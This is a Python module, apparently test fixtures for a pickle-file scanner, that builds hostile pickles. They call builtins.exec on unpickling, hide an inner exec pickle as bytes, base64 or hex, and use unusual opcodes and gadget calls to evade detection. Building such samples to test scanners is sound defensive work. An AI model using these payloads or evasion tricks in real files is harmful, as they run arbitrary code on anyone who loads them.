"""Ways to write one call, or to hide it: each is a whole pickle that runs `payloads.EXEC` when it is unpickled."""

from __future__ import annotations

import base64
import struct

from dife_scanner.lab.hostile import assembler as asm
from dife_scanner.lab.hostile.assembler import call, data, group, name, number, pickled, state, text
from dife_scanner.lab.hostile.payloads import EXEC, TOUCH

_EXEC_NAME = name("builtins.exec")
_SHORT_EXEC = b"\x8c\x08builtins\x8c\x04exec" + asm.STACK_GLOBAL
_RUN = group(text(TOUCH)) + asm.REDUCE
_FRAMED = _SHORT_EXEC + _RUN + asm.STOP

RUNNING: dict[str, bytes] = {
    "protocol 0": f"cbuiltins\nexec\n(V{TOUCH}\ntR.".encode(),
    "names from the stack": asm.PROTOCOL_4 + _SHORT_EXEC + _RUN + asm.STOP,
    "names from the memo": asm.PROTOCOL_4
    + text("exec")
    + b"q\x07"
    + asm.POP
    + text("builtins")
    + b"h\x07"
    + asm.STACK_GLOBAL
    + _RUN
    + asm.STOP,
    "callable from the memo": pickled(_EXEC_NAME + b"q\x01" + asm.POP + b"h\x01" + _RUN),
    "INST": asm.MARK + text(TOUCH) + b"ibuiltins\nexec\n" + asm.STOP,
    "OBJ": pickled(asm.MARK + _EXEC_NAME + text(TOUCH) + b"o"),
    "OBJ, its result dropped": pickled(asm.MARK + _EXEC_NAME + text(TOUCH) + b"o" + asm.POP + state()),
    "result dropped": pickled(EXEC + asm.POP + state()),
    "result dropped with a mark": pickled(asm.MARK + EXEC + b"1" + state()),
    "object left under the result": pickled(EXEC + state()),
    "state that is called": pickled(
        name("argparse.Namespace")
        + asm.EMPTY_TUPLE
        + asm.NEW_OBJECT
        + state(__setstate__=_EXEC_NAME)
        + asm.BUILD
        + text(TOUCH)
        + asm.BUILD
    ),
    "state that is called, made by eval": pickled(
        name("argparse.Namespace") + asm.EMPTY_TUPLE + asm.NEW_OBJECT + EXEC + asm.BUILD
    ),
    "in a frame": asm.PROTOCOL_4 + b"\x95" + struct.pack("<Q", len(_FRAMED)) + _FRAMED,
    "broken after the call": asm.PROTOCOL_2 + EXEC + b"\xff\xff",
    "truncated after the call": asm.PROTOCOL_2 + EXEC,
    "without a protocol": EXEC + asm.STOP,
    "as a key": pickled(asm.EMPTY_DICT + EXEC + text("value") + asm.SET_ITEM),
    "in a tuple of a tuple": pickled(group(group(EXEC))),
    "as an argument of a tensor": pickled(call("collections.OrderedDict", group(group(text("a"), EXEC)))),
    "as the factory of a dict": pickled(call("collections.defaultdict", EXEC)),
    "in the state of a known class": pickled(
        name("argparse.Namespace") + asm.EMPTY_TUPLE + asm.NEW_OBJECT + state(x=EXEC) + asm.BUILD
    ),
    "after a name with a long text": pickled(text("x" * 70_000) + asm.POP + EXEC),
    "among many values": pickled((text("x") + asm.POP) * 500 + EXEC),
}  # fmt: skip
"""Each runs when it is unpickled once."""

_INNER = pickled(EXEC)

CARRIED: dict[str, bytes] = {
    "second pickle": pickled(state()) + _INNER,
    "bytes": pickled(state(x=data(_INNER))),
    "bytes of protocol 2": pickled(
        state(x=call("_codecs.encode", text(_INNER.decode("latin-1")), text("latin1")))
    ),
    "base64": pickled(state(x=text(base64.b64encode(_INNER).decode()))),
    "hexadecimal": pickled(state(x=text(_INNER.hex()))),
    "bytes in bytes": pickled(state(x=data(pickled(state(y=data(_INNER)))))),
}
"""Each carries `carried_payload` for a program that unpickles what it finds."""


def carried_payload() -> bytes:
    """What is run in the end."""
    return _INNER


CHANGING: dict[str, bytes] = {
    "extension 1": pickled(b"\x82\x01"),
    "extension 2": pickled(b"\x83\x01\x00"),
    "extension 4": pickled(b"\x84\x01\x00\x00\x00"),
    "attribute of an allowed class": pickled(
        name("collections.OrderedDict") + state(x=text("y")) + asm.BUILD
    ),
    "slots of an allowed class": pickled(
        name("collections.OrderedDict") + group(b"N", state(x=text("y"))) + asm.BUILD
    ),
    "item of an allowed class": pickled(
        name("torch.nn.Module") + text("x") + text("y") + asm.SET_ITEM
    ),
    "item of a tuple": pickled(group(text("a")) + text("x") + text("y") + asm.SET_ITEM),
    "item of a text": pickled(text("a") + text("x") + asm.APPEND),
    "a name from a call": asm.PROTOCOL_4
    + text("builtins")
    + call("builtins.str", text("exec"))
    + asm.STACK_GLOBAL
    + asm.STOP,
    "a name reached through an object": asm.PROTOCOL_4
    + text("collections")
    + text("OrderedDict.__init__")
    + asm.STACK_GLOBAL
    + asm.EMPTY_TUPLE
    + asm.REDUCE
    + asm.STOP,
    "a call of a text": pickled(text("exec") + group(text(TOUCH)) + asm.REDUCE),
    "a call of an object": pickled(call("builtins.object") + asm.EMPTY_TUPLE + asm.REDUCE),
    "a rebuild of another function": pickled(
        call("torch._tensor._rebuild_from_type_v2", name("operator.add"), name("torch.Tensor"), group(), b"N")
    ),
    "a caller of another function": pickled(call("functools.partial", name("zipapp.create_archive"), text("x"))),
    "an object of another class": pickled(
        call("copyreg._reconstructor", name("threading.Thread"), name("builtins.object"), b"N")
    ),
    "an encoding that is none": pickled(call("_codecs.encode", text("x"), text("rot13"))),
    "a memo index beyond any file": pickled(state() + b"r\xff\xff\xff\x7f"),
    "a dict of no pairs": pickled(call("collections.OrderedDict", asm.EMPTY_LIST + number(1) + asm.APPEND)),
}  # fmt: skip
"""Each changes, computes or reaches something that no honest file does."""
